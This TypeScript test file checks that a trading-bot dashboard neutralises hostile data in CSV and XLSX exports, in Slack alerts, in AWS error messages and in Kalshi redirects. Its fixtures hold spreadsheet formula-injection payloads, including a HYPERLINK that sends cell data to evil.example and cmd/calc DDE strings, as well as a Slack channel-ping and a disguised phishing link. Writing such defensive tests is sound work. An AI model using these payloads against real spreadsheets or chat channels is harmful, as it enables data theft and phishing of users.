// Hostile data on its way out (issue 21 items 2, 3, 4, 10, 11): strings in the bot's tables that a
// spreadsheet would run, that Slack would turn into a channel ping, that a browser would read as a
// date; AWS error text with account details; a Kalshi endpoint that redirects elsewhere. The hostile
// items are written to a real DynamoDB (dynalite) beside the hand-worked dataset.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import http from 'node:http';
import { generateKeyPairSync } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../src/server/app.js';
import { toCsvText } from '../web/src/components/client-csv.js';
import { createReadClient } from '../src/store/client.js';
import { startTestStore, type TestStore } from './helpers/store.js';
import { unzipEntries } from './helpers/workbook.js';
import { NOW, RUN, decisionItem, putAll, writeHandWorkedDataset } from './helpers/fixtures.js';
import { toAwareIso, toNaiveIso, utcDate } from '../src/core/time.js';

const FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"click")';
const PING = '<!channel> <http://evil.example/login|Kalshi session expired - click> & <@U123>';
let store: TestStore;
const apps: FastifyInstance[] = [];
const servers: http.Server[] = [];

async function appWith(extra: Record<string, unknown> = {}, opts = {}): Promise<FastifyInstance> {
  const app = await buildApp(
    {
      source: 'embedded',
      defaultEnv: 'demo',
      region: 'us-east-1',
      client: store.reader,
      nowMs: () => NOW,
      webDir: null,
      auth: { mode: 'none' },
      ...extra,
    },
    opts,
  );
  apps.push(app);
  return app;
}
async function serve(handler: http.RequestListener): Promise<string> {
  const s = http.createServer(handler);
  servers.push(s);
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(s.address() as AddressInfo).port}`;
}

beforeAll(async () => {
  store = await startTestStore();
  await writeHandWorkedDataset(store.writer);
  await putAll(store.writer, 'dora_market_config_demo', [
    {
      market_id: 'KX-EVIL',
      enabled: true,
      quote_size: 5,
      max_inventory_yes: 10,
      max_inventory_no: 10,
      min_spread: 0.04,
      inventory_skew_factor: 0.25,
      event_ticker: FORMULA,
      disabled_reason: '@SUM(1+9)*cmd|" /C calc"!A0',
    },
    { market_id: 'KX-TAB', enabled: false, event_ticker: '\t=1+1', disabled_reason: '\r-2+3' },
    { market_id: 'KX-NUM', enabled: false, event_ticker: '-42', disabled_reason: 'plain text' },
    {
      market_id: 'KX-XML',
      enabled: false,
      event_ticker: 'bad\uFFFExml\uFFFF',
      disabled_reason: 'lone \uD800 surrogate 🙂',
    },
  ]);
  const base = decisionItem({ ms: NOW - 30_000, market: 'KX-B', loop: 7, bid: 0.2, ask: 0.3 });
  await putAll(store.writer, 'dora_decision_log_demo', [
    // One odd string field, the rest sound: the decision stays, the field is shown empty.
    {
      ...base,
      price_calc: {
        logic: 42,
        fair_value: 0.25,
        last_trade_time: '35',
        wma_trade_time: toAwareIso(NOW - 60_000),
      },
    },
    ...['junk 2035', '2035-06-01T00:00:00Z', 2059837200].map((t, i) => ({
      ...decisionItem({ ms: NOW - 40_000 - i * 1000, market: 'KX-B', loop: 8 + i, bid: 0.2, ask: 0.3 }),
      price_calc: { logic: '-1+2', last_trade_time: t },
    })),
  ]);
  await putAll(store.writer, 'dora_state_demo', [
    {
      key: 'risk_state',
      daily_pnl: -3.5,
      trading_halted: true,
      halt_reason: PING,
      last_updated: toAwareIso(NOW - 10_000),
    },
    {
      key: 'api_errors',
      last_updated: toAwareIso(NOW - 5_000),
      errors: {
        'KX-A': {
          count: 3,
          last_error: toNaiveIso(NOW - 60_000),
          last_error_code: '=cmd|"/c calc"!A1',
          last_status_code: 400,
          last_error_msg: '+SUM(A1:A9)',
        },
      },
    },
  ]);
  void utcDate;
  void RUN;
});
afterAll(async () => {
  for (const a of apps) await a.close();
  for (const s of servers) await new Promise((r) => s.close(r));
  await store.close();
});

describe('CSV exports neutralise formulas (item 2)', () => {
  it('server CSV: text beginning = + - @ tab or CR gets a leading quote; numbers, negative too, stay numbers', async () => {
    const app = await appWith();
    const csv = (await app.inject('/api/v1/markets?format=csv')).body;
    const line = (id: string) =>
      csv.split('\r\n').find((l) => l.startsWith(`${id},`)) ?? csv.slice(csv.indexOf(id));
    expect(line('KX-EVIL')).toContain(`"'=HYPERLINK(""http://evil.example/x?""&A1,""click"")"`);
    expect(line('KX-EVIL')).toContain(`"'@SUM(1+9)*cmd|"" /C calc""!A0"`);
    expect(csv).toContain(`'\t=1+1`);
    expect(csv).toContain(`"'\r-2+3"`);
    // A number written as text is a number, not a formula: left alone.
    expect(line('KX-NUM')).toContain(',-42,');
    expect(csv).not.toMatch(/(^|,)"?([=+@\t]|\r(?!\n))/m);
    const overview = (await app.inject('/api/v1/overview?format=csv')).body;
    const kxc = overview.split('\r\n').find((l) => l.startsWith('KX-C,')) ?? '';
    expect(kxc).toContain(',-5,'); // KX-C's position: a negative number, written as one
    const decisions = (await app.inject('/api/v1/markets/KX-B/decisions?format=csv&from=2026-01-05')).body;
    expect(decisions).toContain(`,'-1+2,`);
    expect(decisions).not.toMatch(/,-1\+2,/);
  });

  it('client CSV (built in the browser) does the same to the same cells', async () => {
    const app = await appWith();
    const risk = (await app.inject('/api/v1/risk')).json();
    const text = toCsvText(
      risk.apiErrors as { marketId: string; lastErrorCode: string; lastErrorMsg: string; count: number }[],
      ['marketId', 'lastErrorCode', 'lastErrorMsg', 'count'],
    );
    expect(text).toBe(
      `marketId,lastErrorCode,lastErrorMsg,count\r\nKX-A,"'=cmd|""/c calc""!A1",'+SUM(A1:A9),3\r\n`,
    );
    expect(toCsvText([{ a: -1.5, b: '-1.5', c: '-x', d: '@me', e: 'ok' }], ['a', 'b', 'c', 'd', 'e'])).toBe(
      "a,b,c,d,e\r\n-1.5,-1.5,'-x,'@me,ok\r\n",
    );
  });
});

describe('workbook exports stay safe (item 2)', () => {
  it('formula-like text is an inline string, never a formula; U+FFFE/U+FFFF and lone surrogates do not break the XML', async () => {
    const app = await appWith();
    const res = await app.inject('/api/v1/markets?format=xlsx');
    expect(res.statusCode).toBe(200);
    const sheet = unzipEntries(res.rawPayload).get('xl/worksheets/sheet1.xml') ?? '';
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain(
      '<t xml:space="preserve">=HYPERLINK(&quot;http://evil.example/x?&quot;&amp;A1,&quot;click&quot;)</t>',
    );
    // XML 1.0's Char production: none of these may appear, escaped or not.
    expect(sheet).not.toMatch(
      /[\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/,
    );
    expect(sheet).toContain('badxml');
    expect(sheet).toContain('lone  surrogate 🙂');
  });
});

describe('Slack alerts carry no markup from the tables (item 3)', () => {
  it('a halt reason cannot ping the channel or disguise a link', async () => {
    const posts: string[] = [];
    const url = await serve((req, res) => {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        posts.push((JSON.parse(body) as { text: string }).text);
        res.end('ok');
      });
    });
    const app = await appWith({
      alerts: { background: false, webhook: { url: `${url}/hook`, cooldownMs: 60_000 } },
    });
    await app.inject('/api/v1/alerts');
    const text = posts.join('\n');
    expect(text).toContain(
      'trading is halted: &lt;!channel&gt; &lt;http://evil.example/login|Kalshi session expired - click&gt; &amp; &lt;@U123&gt;',
    );
    expect(text).not.toMatch(/<!channel>|<http|<@U/);
    // Only our own markup is left: emoji codes and the bold rule names.
    expect(text).toContain(':red_circle: *trading_halted*');
  });
});

describe('errors say what failed, not the AWS account (item 4)', () => {
  const DENIED =
    'User: arn:aws:sts::123456789012:assumed-role/dora-readonly/i-0abcdef1234567890 is not authorized to perform: dynamodb:DescribeTable';

  it('health (open to anyone), the API, alerts and live updates give the error name and a code; the log has the rest', async () => {
    const fake = await serve((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/x-amz-json-1.0' });
      res.end(
        JSON.stringify({ __type: 'com.amazonaws.dynamodb.v20120810#AccessDeniedException', message: DENIED }),
      );
    });
    const client = createReadClient({
      region: 'us-east-1',
      endpoint: fake,
      credentials: { accessKeyId: 'k', secretAccessKey: 's' },
    });
    const lines: string[] = [];
    const app = await appWith(
      { client, livePollMs: 50 },
      { logLevel: 'warn', logStream: { write: (l: string) => void lines.push(l) } },
    );
    const health = await app.inject('/api/v1/health');
    expect(health.statusCode).toBe(503);
    expect(health.json().error).toMatchObject({ code: 'store_unavailable', name: 'AccessDeniedException' });
    const overview = await app.inject('/api/v1/overview');
    expect(overview.statusCode).toBe(503);
    expect(overview.json().error.message).toContain('AccessDeniedException');
    const alerts = await app.inject('/api/v1/alerts');
    const events = await new Promise<unknown>((resolve) => {
      const stop = app.dora.hub.poller('demo').subscribe((e) => {
        if (e.type === 'error') {
          stop();
          resolve(e.data);
        }
      }, null);
    });
    expect(events).toMatchObject({ code: 'store_unavailable', name: 'AccessDeniedException' });
    for (const body of [health.body, overview.body, alerts.body, JSON.stringify(events)]) {
      expect(body).not.toContain('123456789012');
      expect(body).not.toContain('i-0abcdef1234567890');
      expect(body).not.toContain('dora-readonly');
    }
    expect(lines.join('\n')).toContain('123456789012');
    client.destroy();
  });
});

describe('the Kalshi balance request (item 10)', () => {
  it('does not follow a redirect: its signed headers never reach another origin', async () => {
    const seen: http.IncomingHttpHeaders[] = [];
    const elsewhere = await serve((req, res) => {
      seen.push(req.headers);
      res.writeHead(200, { 'content-type': 'application/json' }).end('{"balance":1}');
    });
    const kalshi = await serve((_req, res) => res.writeHead(302, { location: `${elsewhere}/steal` }).end());
    const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
    const app = await appWith({
      kalshi: {
        demo: {
          keyId: 'key-1',
          privateKeyPem: privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(),
          baseUrl: kalshi,
        },
      },
    });
    const res = await app.inject('/api/v1/balance?env=demo');
    expect(res.statusCode).toBe(502);
    expect(res.json().error.code).toBe('kalshi_unavailable');
    expect(seen).toEqual([]);
  });
});

describe('odd values in items (item 11)', () => {
  it('a junk last_trade_time is "invalid", never a date; one odd string field keeps its decision', async () => {
    const app = await appWith();
    const body = (await app.inject('/api/v1/markets/KX-B/decisions?from=2026-01-05&limit=50')).json();
    const byLoop = (loop: number) =>
      body.items.find((d: { decisionId: string }) => d.decisionId?.endsWith(`:KX-B:${loop}`));
    const kept = byLoop(7);
    expect(kept).toBeDefined();
    expect(kept.priceCalc).toMatchObject({
      logic: null,
      fairValue: 0.25,
      lastTradeTime: 'invalid',
      wmaTradeTime: toAwareIso(NOW - 60_000),
    });
    for (const loop of [8, 9, 10])
      expect(byLoop(loop)?.priceCalc.lastTradeTime, String(loop)).toBe('invalid');
    const odd = body.warnings.filter((w: { code: string }) => w.code === 'odd_field');
    expect(odd.length).toBeGreaterThanOrEqual(4);
    expect(odd.map((w: { message: string }) => w.message).join('\n')).toContain(
      'price_calc.logic: expected a string, got number',
    );
  });
});
